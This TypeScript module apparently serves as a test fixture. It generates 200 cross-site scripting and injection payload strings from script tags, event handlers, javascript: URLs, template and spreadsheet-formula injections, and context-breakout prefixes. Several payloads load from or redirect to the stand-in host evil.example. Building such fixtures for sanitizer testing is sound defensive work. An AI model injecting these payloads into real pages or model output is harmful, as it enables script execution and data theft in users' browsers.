/** What a hostile page, file name or model writes so that somebody's browser runs or loads it. */

/** Each calls `hit()` or loads from `evil.example` where nothing stops it. */
const VECTORS: readonly string[] = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<a href="javascript:hit()" autofocus onfocus=hit()>x</a>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<math><mtext></p><style><img src=x onerror=hit()></style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>x</button></form>',
  '<object data="javascript:hit()"></object>',
  '<style>@import "//evil.example/x.css"</style>',
  '<marquee onstart=hit()>x</marquee>',
  'javascript:hit()//',
  'data:text/html,<script>hit()</script>',
  '![x](//evil.example/x.png)',
  '[x](javascript:hit())',
  "{{constructor.constructor('hit()')()}}",
  '=HYPERLINK("//evil.example/","x")',
];

/** What comes out of the place that a text stands in. */
const WAYS_OUT: readonly string[] = [
  '',
  '">',
  "'>",
  '</script>',
  '</textarea></title>',
  '-->',
  ']]>',
  '\u202e',
];

/** 200 texts. */
export const PAYLOADS: readonly string[] = WAYS_OUT.flatMap((out) =>
  VECTORS.map((vector) => `${out}${vector}`),
);

/** All of them as one text. */
export const ALL_PAYLOADS = PAYLOADS.join('\n');
